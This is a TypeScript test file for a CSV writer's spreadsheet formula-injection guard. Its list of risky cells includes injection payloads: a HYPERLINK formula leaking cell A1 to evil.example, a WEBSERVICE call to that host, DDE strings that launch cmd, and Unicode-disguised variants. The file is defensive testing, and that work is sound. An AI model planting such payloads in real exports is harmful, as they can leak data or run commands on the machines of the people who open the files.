import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { ByteWriter } from "#lib/byte-writer.ts";
import { type CsvDelimiter, type CsvKind, csvRows, guardCell, unguardCell } from "#lib/csv.ts";
import { readCsv } from "#lib/read-csv.fixture.ts";

/** Cells that some spreadsheet calculates, opens or sends when the file is opened. */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example")',
  "@SUM(1,1)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "+1-617-555-0100",
  "+(34)-600-111222",
  "+34/600111222",
  "+34.600111222",
  "+34600111222+A1",
  "+34600111222;=1+1",
  "+34 600 111 222\n=1+1",
  "+1*617",
  "+A1",
  "+12345678901234567890",
  "\t=1+1",
  "\tharmless",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u2060+1+1",
  "\u00ad=1+1",
  "\u200e=1+1",
  " \u200b \t=1+1",
  "\u0001=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "\u200b＝1+1",
  "﹦1+1",
  "﹢1+1",
  "﹣1+1",
  "﹫SUM(1)",
  "'=1+1",
  "''=1+1",
  "-",
  "=",
  "@handle",
];

/** What leads really say, which must come out as it went in. */
const HARMLESS = [
  "+34600111222",
  "+34 600 111 222",
  "+34 600-111-222",
  "+34 (600) 111 222",
  "+1 617-555-0100",
  "+1 (617) 555-0100",
  "+1(617)555-0100",
  "+47 22 55 01 84",
  "+49.711.900.4417",
  "+49\u00a0711\u00a09004417",
  "16175555555",
  "1234567890",
  "0034 600 111 222",
  "617-555-0100",
  "someone@contoso.com",
  "O'Brien",
  "'t Hart",
  "’s-Hertogenbosch",
  'Müller & Söhne; GmbH, Co. "KG"',
  "a=b",
  "Call me\n- today\n- tomorrow",
  "–5 °C",
  "ע״מ",
  "",
];

describe("a cell for a spreadsheet", () => {
  test.each(FORMULAS)("begins with an apostrophe where it would calculate: %j", (text) => {
    expect(guardCell(text)).toBe(`'${text}`);
  });

  test.each(HARMLESS)("is left as it is where it would not: %j", (text) => {
    expect(guardCell(text)).toBe(text);
  });

  test("begins with an apostrophe where a spreadsheet would round it to 15 digits", () => {
    expect(guardCell("123456789012345")).toBe("123456789012345");
    expect(guardCell("1234567890123456")).toBe("'1234567890123456");
  });

  test("gives the text back when one apostrophe is taken away again, whatever the text", () => {
    const tricky = fc.string({
      unit: fc.constantFrom("'", "=", "+", "-", "@", "3", "4", " ", "\t", "\u200b", "＝", "a"),
    });
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "grapheme" }), tricky, fc.constantFrom(...FORMULAS)), (text) => {
        expect(unguardCell(guardCell(text))).toBe(text);
      }),
    );
  });

  test("keeps its digits where it begins with a plus and is left alone, whatever a spreadsheet makes of it", () => {
    const telephone = fc
      .string({ unit: fc.constantFrom(..."0123456789 ().-+"), maxLength: 18 })
      .map((rest) => `+${rest}`);
    fc.assert(
      fc.property(telephone, (text) => {
        if (guardCell(text) !== text) return;
        const digits = text.replace(/\D/g, "").replace(/^0+(?=\d)/, "");
        expect([null, digits]).toContain(calculate(text));
      }),
      { numRuns: 5_000 },
    );
  });
});

describe("a cell in a file for a spreadsheet", () => {
  const cell = (text: string) => readCsv(write([{ a: text }], "spreadsheet", ",").slice(1))[1]?.[0];

  test.each([...FORMULAS, ...HARMLESS])("is what is said of its text above: %j", (text) => {
    expect(cell(text)).toBe(guardCell(text));
  });

  test("is that whatever character it begins with, although its bytes are looked at and not its text", () => {
    const texts: string[] = [];
    for (let code = 1; code < 0x10000; code += 1) {
      const isHalf = code >= 0xd800 && code < 0xe000;
      if (!isHalf) texts.push(`${String.fromCharCode(code)}=1+1`, `${String.fromCharCode(code)}12345678901234567`);
    }
    const cells = readCsv(
      write(
        texts.map((a) => ({ a })),
        "spreadsheet",
        ",",
      ).slice(1),
    ).slice(1);
    const wrong = texts.filter((text, index) => cells[index]?.[0] !== guardCell(text));
    expect(wrong).toEqual([]);
  });
});

describe("a file", () => {
  const rows = [
    { name: 'Łucja; "Lu", Nowak', note: "one\r\ntwo\nthree", flag: true, empty: null },
    { name: "=1+1", note: "+34 600 111 222", flag: false, empty: "" },
  ];

  test("for a spreadsheet starts with a byte order mark, ends lines with CR LF and quotes every cell", () => {
    const file = write(rows, "spreadsheet", ";");
    expect(file.startsWith('\ufeff"name";"note";"flag";"empty"\r\n')).toBe(true);
    expect(readCsv(file.slice(1), ";")).toEqual([
      ["name", "note", "flag", "empty"],
      ['Łucja; "Lu", Nowak', "one\r\ntwo\nthree", "true", ""],
      ["'=1+1", "+34 600 111 222", "false", ""],
    ]);
  });

  test("for programs is plain UTF-8 with every text as it was", () => {
    const file = write(rows, "program", ",");
    expect(readCsv(file)).toEqual([
      ["name", "note", "flag", "empty"],
      ['Łucja; "Lu", Nowak', "one\r\ntwo\nthree", "true", ""],
      ["=1+1", "+34 600 111 222", "false", ""],
    ]);
  });

  test("gives every text back, whatever it holds, in both kinds and with both delimiters", () => {
    const anyText = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...FORMULAS, ...HARMLESS));
    const anyRows = fc.array(fc.record({ a: anyText, b: anyText }), { minLength: 1, maxLength: 5 });
    const anyKind = fc.constantFrom<CsvKind>("spreadsheet", "program");
    fc.assert(
      fc.property(anyRows, anyKind, fc.constantFrom<CsvDelimiter>(",", ";"), (given, kind, delimiter) => {
        const file = write(given, kind, delimiter);
        const read = readCsv(kind === "spreadsheet" ? file.slice(1) : file, delimiter).slice(1);
        expect(read.map((cells) => (kind === "spreadsheet" ? cells.map(unguardCell) : cells))).toEqual(
          given.map(({ a, b }) => [a, b].map((text) => Buffer.from(text).toString())),
        );
      }),
    );
  });
});

function write(rows: Record<string, string | boolean | null>[], kind: CsvKind, delimiter: CsvDelimiter): string {
  const out = new ByteWriter();
  const csv = csvRows(out, kind, delimiter);
  csv.head(Object.keys(rows[0] ?? {}));
  for (const row of rows) {
    for (const cell of Object.values(row)) {
      if (cell === null) csv.nothing();
      else if (typeof cell === "boolean") csv.boolean(cell);
      else csv.text(Buffer.from(cell), 0, Buffer.byteLength(cell));
    }
    csv.endRow();
  }
  csv.end();
  return out.take().toString();
}

/** What calculating with the text gives, or null where it is no expression. */
function calculate(text: string): string | null {
  const expression = text.replace(/[+-]/g, " $& ").replace(/(?<![\d.])0+(?=\d)/g, "");
  try {
    return String(new Function(`"use strict"; return (${expression});`)());
  } catch {
    return null;
  }
}
